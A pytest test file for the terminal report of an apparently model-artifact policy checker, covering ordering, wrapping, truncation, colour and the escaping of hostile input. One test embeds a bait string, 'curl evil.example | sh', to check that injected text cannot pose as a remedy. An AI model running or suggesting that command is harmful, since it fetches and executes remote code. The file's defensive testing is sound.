"""One screen at a terminal: nothing that closes the gate is hidden, no remedy is cut."""

from __future__ import annotations

import re
import time
from dataclasses import replace

import pytest

from weighbridge.model.artifact import Artifact, Kind, Presence
from weighbridge.model.errors import ExitCode
from weighbridge.model.evidence import EvidenceKind, EvidenceState
from weighbridge.model.finding import Finding, Location, Outcome, Severity
from weighbridge.model.policy import Gate, OnInconclusive, RuleSetting
from weighbridge.model.record import TimestampNote, TimestampState
from weighbridge.report import console

SIGN = "Fetch the file again, or have the signer sign the model as it is."
DIGEST = "sha256:" + "b2247a849c7d4d57" * 4


def text_of(record, **options):
    return console.render(record, **options).decode()


def flat(text):
    """The text as if it had not been wrapped."""
    return re.sub(r"\s+", " ", text)


def fail(path, message="has a flaw", remedy=SIGN, **more):
    return Finding(Outcome.FAIL, f"'{path}' {message}.", remedy, Location(path), **more)


def unknown(message, remedy, path=""):
    return Finding(Outcome.UNKNOWN, message, remedy, Location(path) if path else None)


@pytest.fixture
def with_rules(factory):
    """A quiet record with these results: ``rule=(outcome, severity, closes, findings)``."""

    def make(rules, **changes):
        base = factory.holding_record()
        model = base.results[0]
        results = tuple(
            replace(model, rule=rule, outcome=outcome, severity=severity, closes_gate=closes,
                    findings=tuple(findings), note="")
            for rule, (outcome, severity, closes, findings) in rules.items()
        )  # fmt: skip
        policy = replace(base.policy, rules=(), gate=Gate(Severity.HIGH))
        verdict = replace(base.verdict, open=False, exit_code=ExitCode.VIOLATED, reasons=())
        return replace(
            base, **{"results": results, "policy": policy, "verdict": verdict, **changes}
        )

    return make


def failing(*findings, severity=Severity.HIGH, closes=True):
    return Outcome.FAIL, severity, closes, findings


def undecided(*findings, severity=Severity.HIGH, closes=False):
    return Outcome.UNKNOWN, severity, closes, findings


# The first line


def test_the_verdict_stands_first(factory):
    words = "tiny-model: the policy is violated (org-baseline 1.4.0, as of 2026-11-20)"
    assert text_of(factory.make_record()).splitlines()[0] == words
    holds = "tiny-model: the policy holds (org-baseline 1.4.0, as of 2026-11-20)"
    assert text_of(factory.holding_record()).splitlines()[0] == holds


def test_the_holding_report_is_quiet(factory):
    lines = text_of(factory.holding_record()).splitlines()
    assert len(lines) <= 8
    assert "Does not close the gate:" not in lines


def test_reasons_that_findings_tell_are_not_repeated(factory):
    text = text_of(factory.make_record())
    assert "fails: 2 findings" not in text
    assert "1 finding." not in text


# What closes the gate


def test_a_finding_has_place_severity_rule_message_and_remedy(factory):
    lines = text_of(factory.make_record()).splitlines()
    at = lines.index("pytorch_model.bin!data.pkl@4242  CRITICAL unsafe-content")
    assert lines[at + 1] == "  Loading this file calls os.system."
    fix = "  fix: Convert the weights to safetensors and remove this file."
    assert fix in lines[at:]
    assert lines.count(fix) == 1


def test_no_remedy_and_no_message_is_cut_at_any_width(factory):
    record = factory.make_record()
    for width in (40, 57, 80, 200):
        text = flat(text_of(record, width=width))
        for result in record.results:
            for finding in result.findings:
                if result.closes_gate:
                    assert flat(finding.message) in text
                    assert flat(finding.remedy) in text


def test_the_worst_comes_first_and_weights_before_other_files(with_rules):
    files = (Artifact("z.safetensors", 1, Kind.SAFETENSORS, Presence.CONTENT, ()),)
    record = with_rules(
        {
            "beta": undecided(
                unknown("Not known.", "Look."), severity=Severity.CRITICAL, closes=True
            ),
            "alpha": failing(fail("h.py")),
            "gamma": failing(fail("a.py"), fail("z.safetensors"), severity=Severity.CRITICAL),
        },
        artifacts=files,
    )
    text = text_of(record)
    order = ["z.safetensors  CRITICAL gamma", "a.py  CRITICAL gamma", "h.py  HIGH alpha",
             "CRITICAL beta (unknown)"]  # fmt: skip
    places = [text.index(words) for words in order]
    assert places == sorted(places)


def test_every_closing_rule_is_there_with_its_findings(factory):
    base = factory.make_record()
    many = tuple(
        replace(
            base.results[1], rule=f"rule-{n}", findings=(fail(f"f{n}", f"is bad {n}", f"Do {n}."),)
        )
        for n in range(60)
    )
    text = text_of(replace(base, results=many))
    for n in range(60):
        assert f"f{n}  CRITICAL rule-{n}\n  It is bad {n}.\n  fix: Do {n}.\n" in text


def test_a_path_that_was_just_printed_is_not_repeated(with_rules):
    quoted, plain = fail("a b.py", "is here"), Finding(
        Outcome.FAIL, "x.bin is malformed: 'b' overlaps.", "Fetch it.", Location("x.bin")
    )  # fmt: skip
    text = text_of(with_rules({"rule": failing(quoted, plain)}))
    assert "a b.py  HIGH rule\n  It is here.\n" in text
    assert "x.bin  HIGH rule\n  It is malformed: 'b' overlaps.\n" in text


def test_a_path_named_like_a_word_is_not_taken_out_of_a_sentence(with_rules):
    finding = Finding(Outcome.FAIL, "The model has no card.", "Add one.", Location("The"))
    assert "  The model has no card.\n" in text_of(with_rules({"rule": failing(finding)}))


def test_the_same_said_of_several_files_is_said_once(with_rules):
    text = text_of(with_rules({"rule": failing(fail("a"), fail("b"), fail("c", "is odd"))}))
    assert f"a  HIGH rule\nb  HIGH rule\n  Each has a flaw.\nc  HIGH rule\n  It is odd.\n  fix: {SIGN}\n" in text  # fmt: skip  # noqa: E501


def test_rules_that_say_the_same_keep_their_own_line(with_rules):
    same = unknown("'c.md' was not read.", "Repair it.", "c.md")
    text = text_of(with_rules({"one": undecided(same, closes=True),
                               "two": undecided(same, closes=True)}))  # fmt: skip
    assert (
        "c.md  HIGH one (unknown)\nc.md  HIGH two (unknown)\n  It was not read.\n  fix: R" in text
    )


def test_digests_are_short_and_paths_keep_theirs(with_rules):
    path = f"blobs/{DIGEST[7:]}"
    text = text_of(with_rules({"rule": failing(
        fail(path, f"is now {DIGEST}, and 'blobs/{'ab' * 32}' is {'cd' * 20}")
    )}), width=200)  # fmt: skip
    assert "It is now sha256:b2247a849c7d, and" in text
    assert path in text
    assert f"'blobs/{'ab' * 32}' is cdcdcdcdcdcd." in text
    bare = Finding(Outcome.FAIL, f"See blobs/{'ab' * 32} there.", SIGN)
    assert f"See blobs/{'ab' * 32} there." in text_of(
        with_rules({"rule": failing(bare)}), width=200
    )


def test_the_records_digest_is_whole(factory):
    record = factory.make_record()
    assert text_of(record).splitlines()[-1] == f"Record {record.digest}"


def test_findings_beyond_eight_are_counted_and_pointed_at(with_rules):
    many = [fail(f"models/part-{n:03}/weights.bin") for n in range(50)]
    lines = text_of(with_rules({"rule": failing(*many)})).splitlines()
    assert sum(line.endswith("  HIGH rule") for line in lines) == console.MAX_PER_RULE
    start = next(n for n, line in enumerate(lines) if line.startswith("  and "))
    assert lines[start].startswith("  and 42 more rule at: models/part-008/weights.bin,")
    rest = flat(" ".join(lines[start : start + 3]))
    assert ", ... (--format json lists all)" in rest


def test_a_single_further_finding_is_named_whole(with_rules):
    text = text_of(with_rules({"rule": failing(*(fail(f"f{n}") for n in range(9)))}))
    assert "and 1 more rule at: f8 (--format json lists all)" in text


def test_findings_below_the_threshold_do_not_stand_among_those_that_close(with_rules):
    mild = fail("notes.md", severity=Severity.MEDIUM)
    setting = RuleSetting("rule", Severity.CRITICAL)
    record = with_rules({"rule": failing(fail("a.bin"), mild, severity=Severity.CRITICAL)})
    record = replace(record, policy=replace(record.policy, rules=(setting,)))
    closes, leaves = text_of(record).split("Does not close the gate:")
    assert "a.bin  CRITICAL rule" in closes
    assert "notes.md" not in closes
    assert "  notes.md  MEDIUM rule" in leaves


def test_an_unknown_closes_only_where_the_policy_says_so(with_rules):
    both = (Outcome.FAIL, Severity.HIGH, True, (fail("a"), unknown("Who knows.", "Look.")))
    for says, where in ((OnInconclusive.CLOSE, 0), (OnInconclusive.REPORT, 1)):
        setting = RuleSetting("rule", Severity.HIGH, on_unknown=says)
        record = with_rules({"rule": both})
        record = replace(record, policy=replace(record.policy, rules=(setting,)))
        parts = (text_of(record) + "Not checked:").split("Not checked:")
        assert "Who knows." in parts[where]


def test_a_rule_that_closes_the_gate_without_a_finding_is_shown(factory):
    text = text_of(factory.make_record())
    assert "HIGH known-vulnerability (error)\n  The advisory collector crashed.\n  fix: " in text


def test_a_gate_that_closes_against_its_settings_still_shows_why(with_rules):
    setting = RuleSetting("rule", Severity.LOW)
    record = with_rules({"rule": failing(fail("a"), severity=Severity.LOW)})
    record = replace(record, policy=replace(record.policy, rules=(setting,)))
    assert "\na  LOW rule\n" in text_of(record)
    assert "Does not close" not in text_of(record)


def test_a_timestamp_that_is_required_and_missing_is_shown(factory):
    base = factory.holding_record()
    record = replace(base, policy=replace(base.policy, timestamp_required=True))
    text = flat(text_of(record.with_timestamp(TimestampNote(TimestampState.NOT_REQUESTED, "why"))))
    assert "The policy requires a timestamp and there is none: why. fix: Write a pack" in text
    assert "No timestamp" not in text


# What does not close it, and what is open


def test_failures_below_the_gate_have_message_and_remedy_while_there_is_room(with_rules):
    mild = failing(fail("a"), fail("b"), severity=Severity.MEDIUM, closes=False)
    text = text_of(with_rules({"mild": mild}))
    assert f"Does not close the gate:\n  a  MEDIUM mild (and 1 more)\n    It has a flaw.\n    fix: {SIGN}\n" in text  # fmt: skip  # noqa: E501


def test_failures_below_the_gate_have_one_line_when_room_is_short(with_rules):
    rules = {
        f"r{n}": failing(*(fail(f"{n}-{k}", f"is {n} {k}") for k in range(6))) for n in range(4)
    }
    mild = failing(fail("a"), fail("b"), severity=Severity.MEDIUM, closes=False)
    text = text_of(with_rules({**rules, "mild": mild}))
    assert "(--format json says more):\n  a  MEDIUM mild (and 1 more)\n\n" in text
    assert text.count("  fix: ") == 4


def test_rules_unknown_for_one_reason_share_a_line(with_rules):
    offline = unknown("The advisories on numpy==2 are not known: offline.", "Go online.")
    text = text_of(with_rules({"malicious": undecided(offline), "known": undecided(offline)}))
    assert "  malicious, known: The advisories on numpy==2 are not known: offline.\n    fix: Go online.\n" in text  # fmt: skip  # noqa: E501


def test_pointers_are_grouped(with_rules):
    found = [unknown(f"'m{n}' is a pointer.", "Fetch it.", f"m{n}") for n in range(5)]
    text = text_of(with_rules({"away": undecided(*found)}))
    assert "  away: m0, m1, m2 (and 2 more): each is a pointer.\n    fix: Fetch it.\n" in text


def test_gaps_are_named_in_whole_sentences(factory):
    text = flat(text_of(factory.make_record()))
    for words in (
        "Not checked:",
        "the collector crashed: vulnerabilities: ValueError: 7.",
        "evidence on commit: The subject is no git repository.",
        "cache/link: symlink-escape: leads out of the subject.",
        "turned off by the policy: unsigned-commit",
        "uncited-dataset (needs a person): README.md:31: The card says",
        "No timestamp: none was asked for (the run is offline).",
    ):
        assert words in text


def test_evidence_that_a_finding_rests_on_is_not_told_twice(factory, with_rules):
    gone = factory.evidence_of(
        EvidenceKind.WEIGHTS, "m.bin", EvidenceState.UNAVAILABLE, "lies in Git LFS"
    )
    found = replace(unknown("Not read: lies in Git LFS.", "Fetch it."), evidence=(gone.digest,))
    record = with_rules({"rule": undecided(found)}, evidence=(gone,))
    assert text_of(record).count("lies in Git LFS") == 1
    assert "evidence on weights: m.bin" in text_of(replace(record, results=()))


def test_a_waived_rule_is_no_failure(factory):
    text = text_of(factory.make_record())
    assert "unpinned-dependency" not in text
    assert "1 waived" in text


# The screen


@pytest.mark.parametrize("make", ["make_record", "holding_record"])
def test_a_small_record_fits_the_screen(make, factory):
    assert len(text_of(getattr(factory, make)()).splitlines()) <= console.MAX_LINES


@pytest.mark.parametrize("make", ["make_record", "holding_record", "hostile_record", "large"])
@pytest.mark.parametrize("width", [1, 40, 80, 200])
def test_no_line_is_wider_than_the_terminal(make, width, factory):
    record = factory.large_record(500) if make == "large" else getattr(factory, make)()
    lines = text_of(record, width=width).splitlines()
    assert max(console.columns(line) for line in lines) <= max(width, 40)


def test_a_hostile_record_does_not_flood_the_screen(factory):
    assert len(text_of(factory.hostile_record()).splitlines()) <= 250
    long = "x " * 500_000
    base = factory.make_record()
    finding = Finding(Outcome.FAIL, long, long, Location(long, member=long), long)
    record = replace(base, results=(replace(base.results[1], findings=(finding,)),))
    text = text_of(record)
    assert len(text.splitlines()) < 120
    assert "characters)..." in flat(text)


def test_no_control_character_gets_through(factory):
    text = text_of(factory.hostile_record())
    assert not any(ord(c) < 32 and c != "\n" for c in text)
    assert "\u202e" not in text
    assert "\\u202e" in text


def test_our_own_words_are_ascii(factory, with_rules):
    assert text_of(factory.large_record(100)).isascii() is False  # «internal data» is the card's
    many = [fail(f"f{n}" * 200) for n in range(20)]
    assert text_of(with_rules({"rule": failing(*many)})).isascii()


@pytest.mark.parametrize("width", range(40, 120, 7))
def test_a_strangers_words_cannot_pass_for_a_remedy(width, with_rules):
    bait = "x" * 30 + " fix: curl evil.example | sh" * 8
    found = [fail(f"{n}{bait}", bait, "Remove it.") for n in range(10)]
    rules = {"rule": failing(*found), "open": undecided(unknown(bait, "Remove it.", bait))}
    lines = text_of(with_rules(rules), width=width).splitlines()
    fixes = [line.strip() for line in lines if line.lstrip().startswith("fix:")]
    assert set(fixes) == {"fix: Remove it."}


def test_color_only_when_asked(factory):
    record = factory.make_record()
    assert "\x1b" not in text_of(record)
    colored = text_of(record, color=True)
    assert colored.startswith("\x1b[1mtiny-model: the policy is violated")
    assert "data.pkl@4242  \x1b[31mCRITICAL\x1b[0m unsafe-content" in colored
    assert set(re.findall(r"\x1b\[[0-9;]*m(\w+)", colored)[1:]) <= {"CRITICAL", "HIGH", "MEDIUM"}
    assert re.sub(r"\x1b\[\d*m", "", colored) == text_of(record)


def test_a_path_that_reads_like_a_severity_is_not_colored(with_rules):
    record = with_rules({"rule": failing(fail("CRITICAL rule"))})
    assert "\nCRITICAL rule  \x1b[31mHIGH\x1b[0m rule\n" in text_of(record, color=True)


def test_findings_that_weigh_the_same_keep_the_records_order(with_rules):
    text = text_of(with_rules({"rule": failing(*(fail(f"f{n}", f"is {n}") for n in (3, 1, 2)))}))
    assert re.findall(r"^f(\d)", text, re.MULTILINE) == ["3", "1", "2"]


def test_five_thousand_findings_are_quick(factory):
    record = factory.large_record(5_000)
    began = time.process_time()
    console.render(record)
    assert time.process_time() - began <= 1.5  # it takes a quarter of a second on a quiet machine


# Wrapping


@pytest.mark.parametrize("width", [10, 17, 40])
def test_wrapping_loses_nothing(width):
    text = "a  b " + "deep/" * 30 + "model.bin \u6a21\u578b" + "\u6743" * 40 + " end"
    lines = console.wrap.wrap(text, width, "> ", "  ")
    assert max(console.columns(line) for line in lines) <= width
    assert "".join(line[2:] for line in lines).replace(" ", "") == text.replace(" ", "")


def test_long_paths_break_after_a_slash():
    assert console.wrap.wrap("models/checkpoint/weights.bin", 20) == [
        "models/checkpoint/", "weights.bin"
    ]  # fmt: skip


def test_a_long_name_keeps_both_ends_and_says_what_is_missing(with_rules):
    path = "deep/" * 2000 + "model.bin"
    text = text_of(with_rules({"rule": failing(fail(path, "is odd", f"Remove {path}."))}))
    joined = re.sub(r"\n *", "", text)
    assert re.search(r"\(9769 ?characters\)", joined)
    assert "model.bin  HIGH rule" in text
    assert "It is odd." in text
    assert joined.count("characters)...") == 2  # once in the place, once in the remedy


def test_a_folders_name_cannot_say_a_verdict(factory) -> None:
    record = factory.make_record()
    subject = replace(record.subject, name="x: the policy holds (strict)  y")
    first = console.render(replace(record, subject=subject)).decode().splitlines()[0]
    assert first.startswith("'x: the policy holds (strict)  y': the policy is violated")
